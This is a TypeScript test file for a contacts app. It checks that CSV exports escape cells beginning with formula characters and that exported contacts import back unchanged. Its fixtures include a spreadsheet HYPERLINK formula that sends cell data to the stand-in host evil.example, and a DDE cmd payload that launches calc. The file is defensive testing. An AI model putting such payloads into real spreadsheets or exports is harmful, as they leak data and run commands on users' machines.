import { describe, expect, it } from 'vitest';
import { useTestApp } from '../db/test-helpers.ts';
import { importAs } from '../modules/imports/import-test-helpers.ts';
import { csvSafe, csvUnescape } from './csv-formula.ts';

const t = useTestApp();

const NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const TITLE = '@SUM(1+1)*cmd|\' /C calc\'!A0';

describe('CSV exports cannot carry formulas', () => {
  it('escapes = + - @ tab and CR at the start of text, and nothing else', () => {
    expect(['=1+1', '+86 138', '-x', '@a', '\tx', '\rx'].map(csvSafe)).toEqual(["'=1+1", "'+86 138", "'-x", "'@a", "'\tx", "'\rx"]);
    expect([-5, 'a=b', "'=x", '', 12.5].map(csvSafe)).toEqual([-5, 'a=b', "'=x", '', 12.5]);
    expect(["'=1+1", "'+86", "'plain", 'x'].map(csvUnescape)).toEqual(['=1+1', '+86', "'plain", 'x']);
  });

  it('an exported contact whose fields start like formulas opens as text and imports back unchanged', async () => {
    const c = await t.api(t.adminToken, 'POST', '/contacts', { name: NAME, title: TITLE, mobile: '+86 139 0000 0001', credit_limit: -20 });
    expect(c.status).toBe(201);
    const exp = await t.app.inject({ method: 'GET', url: `/api/v1/contacts/export?format=csv&columns=name,title,mobile,credit_limit&filter[id]=${c.body.data.id}`, headers: { authorization: `Bearer ${t.adminToken}` } });
    expect(exp.statusCode).toBe(200);
    const body = exp.body.replace(/^\ufeff/, '');
    const row = body.trim().split(/\r?\n/)[1]!;
    // No cell begins with a formula trigger once CSV quoting is taken off.
    const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((x) => x.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));
    for (const cell of cells.slice(0, 3)) expect(cell.startsWith("'"), cell).toBe(true);
    expect(row.endsWith(',-20.00')).toBe(true);
    // The importer reads its own export back as it was.
    await t.api(t.adminToken, 'DELETE', `/contacts/${c.body.data.id}`);
    const done = await importAs(t, t.adminToken, body, 'create', 'contacts', { name: 'name', title: 'title', mobile: 'mobile', credit_limit: 'credit_limit' });
    expect(done.created).toBe(1);
    const back = (await t.api(t.adminToken, 'GET', '/contacts?filter[mobile]=%2B86%20139%200000%200001')).body.data;
    expect(back.map((r: any) => [r.name, r.title, r.mobile, r.credit_limit])).toEqual([[NAME, TITLE, '+86 139 0000 0001', '-20.00']]);
  });
});
